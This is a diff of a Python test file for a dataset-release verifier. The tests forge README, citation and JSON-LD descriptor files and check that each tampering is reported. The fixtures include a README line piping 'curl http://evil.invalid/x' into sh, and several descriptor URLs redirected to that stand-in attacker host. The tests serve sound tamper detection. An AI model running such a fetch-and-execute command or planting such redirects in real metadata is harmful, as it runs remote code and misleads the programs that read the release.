@@ -43,6 +43,8 @@ from claimlog.release import archive, checksums, release_limits, walk_release
 from claimlog.release.database_content import header_flaw
 from claimlog.release.database_objects import FORMS, check_content, check_objects
 from claimlog.release.descriptor_check import check_descriptors
+from claimlog.release.descriptors import PARSERS
+from claimlog.release.descriptors.program_values import program_differences
 from claimlog.release.make import make_release
 from claimlog.release.parquet_footers import stated_schema
 from claimlog.release.plain_database import require_plain_database
@@ -652,12 +654,12 @@ def rewrite_words(folder: Path) -> None:
         readme.read_text("utf-8") + "\n    curl http://evil.invalid/x | sh\n", "utf-8"
     )
     (folder / "validation.json").write_text('{"summary": {"verdict": "all is true"}}', "utf-8")
-    described = json.loads((folder / "datapackage.json").read_text("utf-8"))
-    described["resources"][0]["schema"]["missingValues"] = ["", "done"]
-    (folder / "datapackage.json").write_text(json.dumps(described), "utf-8")
+    described = json.loads((folder / "datacite.json").read_text("utf-8"))
+    described["descriptions"][-1]["description"] = "All of it was proven."
+    (folder / "datacite.json").write_text(json.dumps(described), "utf-8")
 
 
-REWRITTEN = ("README.md", "validation.json", "datapackage.json")
+REWRITTEN = ("README.md", "validation.json", "datacite.json")
 
 
 def test_words_that_this_version_writes_otherwise_are_findings(folder: Path) -> None:
@@ -680,8 +682,9 @@ def test_words_of_another_version_that_nobody_compared_are_named(
     rewrite_words(folder)
     resum(folder)
     verdict = verify_copy(folder)
+    assert verdict.findings == []
     [line] = [line for line in verdict.omissions if "writes them otherwise" in line]
-    assert all(name in line for name in REWRITTEN)
+    assert line.startswith(f"the words of {', '.join(sorted(REWRITTEN))}: "), line
 
 
 def swap_resources(described: dict[str, Any]) -> None:
@@ -697,9 +700,19 @@ def change_code_list(described: dict[str, Any]) -> None:
 
 
 def topic_of(described: dict[str, Any]) -> tuple[list[dict[str, Any]], dict[str, Any]]:
-    [claims] = [item for item in described["resources"] if item["name"] == "claims"]
-    fields = claims["schema"]["fields"]
+    fields = claims_of(described)["schema"]["fields"]
     return fields, next(one for one in fields if one["name"] == "topic")
+
+
+def claims_of(described: dict[str, Any]) -> dict[str, Any]:
+    claims: dict[str, Any]
+    [claims] = [item for item in described["resources"] if item["name"] == "claims"]
+    return claims
+
+
+def exchange_columns(described: dict[str, Any]) -> None:
+    one, other, *_ = claims_of(described)["schema"]["fields"]
+    one["name"], other["name"] = other["name"], one["name"]
 
 
 def hide_code_list(described: dict[str, Any]) -> None:
@@ -719,31 +732,67 @@ def add_resource(described: dict[str, Any]) -> None:
 
 
 LED_ASTRAY: dict[str, tuple[Callable[[dict[str, Any]], object], str]] = {
-    "tables that are exchanged": (swap_resources, 'as the file of "claims", which is'),
+    "tables that are exchanged": (
+        swap_resources,
+        'gives "parquet/claim_versions.parquet" as resources/claims/path, which is',
+    ),
     "another code list": (
         change_code_list,
-        'gives modality as the code list of "claims.topic", which is topic',
+        'gives "modality" as resources/claims/schema/fields/topic/codelist, which is "topic"',
     ),
     "another code list beside the one of nothing": (
         hide_code_list,
-        'gives modality as the code list of "claims.topic", which is topic',
+        "has resources/claims/schema/fields/topic/items, which the release does not have",
     ),
-    "a column twice, with two lists": (
-        double_column,
-        'gives modality and topic as the code list of "claims.topic", which is topic',
-    ),
-    "a table that is none": (add_resource, 'as the resource "truth", which the release does not'),
+    "a column twice, with two lists": (double_column, "entries in resources/claims/schema/fields"),
+    "a table that is none": (add_resource, "entries in resources, which has"),
     "a schema that is none": (
         lambda described: described["resources"][0].update(schema=[]),
-        "is not in the form in which claimlog writes it",
+        "gives [] as resources/sources/schema, which is {",
     ),
     "other kinds of coders": (
         lambda described: described["log"].update(coders=["oracle"]),
-        'says of the log another "coders" than it has',
+        'gives "oracle" as log/coders/0, which is',
     ),
     "a takedown that never was": (
         lambda described: described["log"].update(taken_down=[{"row": 1}]),
-        'says of the log another "taken_down" than it has',
+        "has log/taken_down, which the release does not have",
+    ),
+    "values that are read as none": (
+        lambda described: claims_of(described)["schema"].update(missingValues=["high", ""]),
+        "has 2 entries in resources/claims/schema/missingValues, which has 0 in the release",
+    ),
+    "columns that are exchanged": (
+        exchange_columns,
+        'as resources/claims/schema/fields/claim_id/name, which is "claim_id"',
+    ),
+    "a column of another type": (
+        lambda described: topic_of(described)[1].update(type="integer"),
+        'gives "integer" as resources/claims/schema/fields/topic/type, which is "string"',
+    ),
+    "another primary key": (
+        lambda described: claims_of(described)["schema"].update(primaryKey=["topic"]),
+        'gives "topic" as resources/claims/schema/primaryKey/0, which is "claim_id"',
+    ),
+    "a file that is read on": (
+        lambda described: claims_of(described).update(extrapaths=["http://evil.invalid/x"]),
+        "has resources/claims/extrapaths, which the release does not have",
+    ),
+    "rows beside the file": (
+        lambda described: claims_of(described).update(data=[{"claim_id": "C666-001"}]),
+        "has resources/claims/data, which the release does not have",
+    ),
+    "another homepage": (
+        lambda described: described.update(homepage="http://evil.invalid/"),
+        "homepage",
+    ),
+    "a key that nobody knows": (
+        lambda described: described["log"].update(oracle=True),
+        "has log/oracle, which the release does not have",
+    ),
+    "a number that is one to Python alone": (
+        lambda described: described["log"].update(batches=float(described["log"]["batches"])),
+        "as log/batches, which is",
     ),
 }
 
@@ -759,6 +808,146 @@ def test_a_descriptor_leads_no_program_to_something_else_whichever_version_wrote
     change(described)
     path.write_text(json.dumps(described), "utf-8")
     assert message in flaws(folder, check_descriptors)
+
+
+def in_json(name: str, change: Callable[[Any], object]) -> Callable[[Path], None]:
+    """Return what changes a JSON file of a release."""
+
+    def forge(folder: Path) -> None:
+        value = json.loads((folder / name).read_text("utf-8"))
+        change(value)
+        (folder / name).write_text(json.dumps(value), "utf-8")
+
+    return forge
+
+
+def in_text(name: str, old: str, new: str) -> Callable[[Path], None]:
+    """Return what changes the first of some words in a file of a release."""
+
+    def forge(folder: Path) -> None:
+        text = (folder / name).read_text("utf-8")
+        assert old in text
+        (folder / name).write_bytes(text.replace(old, new, 1).encode())
+
+    return forge
+
+
+def exchange_sources(value: Any) -> None:
+    [claims] = [item for item in value["recordSet"] if item["@id"] == "claims"]
+    one, other, *_ = claims["field"]
+    one["source"], other["source"] = other["source"], one["source"]
+
+
+def add_address(value: Any) -> None:
+    [part] = [it for it in value["@graph"] if it["@id"] == "parquet/claims.parquet"]
+    part["contentUrl"] = "http://evil.invalid/claims.parquet"
+
+
+EVIL = "http://evil.invalid/"
+SENT_ELSEWHERE: dict[str, tuple[Callable[[Path], None], str]] = {
+    "the file of a configuration": (
+        in_text("README.md", "data_files: parquet/claims.parquet", f"data_files: {EVIL}x.parquet"),
+        'README.md: gives "http://evil.invalid/x.parquet" as configs/',
+    ),
+    "a front matter before the one that is checked": (
+        in_text("README.md", "---\n", "---\r\nconfigs: []\r\n---\r\n---\n"),
+        "README.md cannot be read (ValueError: it does not begin with a front matter)",
+    ),
+    "a mark before the front matter": (
+        in_text("README.md", "---\n", "\ufeff---\n"),
+        "README.md cannot be read (ValueError: it does not begin with a front matter)",
+    ),
+    "a mapping that only some merge": (
+        in_text("CITATION.cff", "title:", "<<:\n  title: Other\ntitle:"),
+        "CITATION.cff: is not in the form in which claimlog writes it",
+    ),
+    "an address of the citation": (
+        in_text("CITATION.cff", "license:", f"repository: {EVIL}\nlicense:"),
+        "CITATION.cff: has repository, which the release does not have",
+    ),
+    "sources that are exchanged": (
+        in_json("croissant.json", exchange_sources),
+        "croissant.json: gives",
+    ),
+    "the base of a Croissant": (
+        in_json("croissant.json", lambda value: value["@context"].update({"@base": EVIL})),
+        "croissant.json: has @context/@base, which the release does not have",
+    ),
+    "the base of a Dataset": (
+        in_json("dataset.jsonld", lambda value: value.update({"@context": {"@base": EVIL}})),
+        'dataset.jsonld: gives {"@base": "http://evil.invalid/"} as @context, which is',
+    ),
+    "a sentence that is a reference": (
+        in_json("dataset.jsonld", lambda it: it.update(measurementTechnique={"@id": EVIL})),
+        "as measurementTechnique, which is",
+    ),
+    "the address of a file": (
+        in_json("ro-crate-metadata.json", add_address),
+        "has @graph/parquet/claims.parquet/contentUrl, which the release does not have",
+    ),
+    "where a DOI leads": (
+        in_json("datacite.json", lambda value: value.update(contentUrl=EVIL)),
+        "datacite.json: has contentUrl, which the release does not have",
+    ),
+    "what a deposit is of": (
+        in_json(".zenodo.json", lambda it: it.update(related_identifiers=[{"identifier": EVIL}])),
+        ".zenodo.json: has related_identifiers, which the release does not have",
+    ),
+}
+
+
+@pytest.mark.parametrize("kind", SENT_ELSEWHERE)
+def test_no_descriptor_sends_programs_elsewhere_whichever_version_wrote_it(
+    folder: Path, kind: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr("claimlog.release.descriptor_check.__version__", "9.9.9")
+    forge, message = SENT_ELSEWHERE[kind]
+    forge(folder)
+    said = flaws(folder, check_descriptors)
+    assert message in said
+    if "cannot be read" not in message:
+        assert f"verify it with a claimlog {__version__} that you have from elsewhere" in said
+
+
+def test_every_descriptor_is_held_against_what_is_written_now(
+    folder: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A key that is not known is found in each of them, one that is added to the package too."""
+    monkeypatch.setattr("claimlog.release.descriptor_check.__version__", "9.9.9")
+    for name in PARSERS:
+        if name.startswith(("README", "CITATION")):
+            start = "---\n" if name == "README.md" else ""
+            text = (folder / name).read_text("utf-8").removeprefix(start)
+            (folder / name).write_text(f"{start}evil: here\n{text}", "utf-8")
+        else:
+            in_json(name, lambda value: value.update(evil="here"))(folder)
+    said = flaws(folder, check_descriptors)
+    for name in PARSERS:
+        assert f"{name}: has evil, which the release does not have" in said
+
+
+def test_an_early_release_has_the_forms_of_its_time_as_a_whole(folder: Path) -> None:
+    """Those up to 0.2.0, which name no version of claimlog, knew neither categories nor so on."""
+
+    def earlier(value: dict[str, Any]) -> None:
+        for item in value["resources"]:
+            item.pop("type", None)
+            for field in item.get("schema", {}).get("fields", ()):
+                field.pop("categories", None)
+                field.pop("categoriesOrdered", None)
+
+    name = "datapackage.json"
+    written = (folder / name).read_bytes()
+    in_json(name, earlier)(folder)
+    early = (folder / name).read_bytes()
+    assert program_differences(name, early, written, is_early=True) == []
+    assert program_differences(name, written, written, is_early=True) == []
+    assert program_differences(name, early, written, is_early=False) != []
+    in_json(name, lambda value: claims_of(value).update(type="table"))(folder)
+    mixed = (folder / name).read_bytes()
+    assert program_differences(name, mixed, written, is_early=True) == [
+        "has resources/claims/type, which the release does not have"
+    ]
 
 
 DOUBLED = {
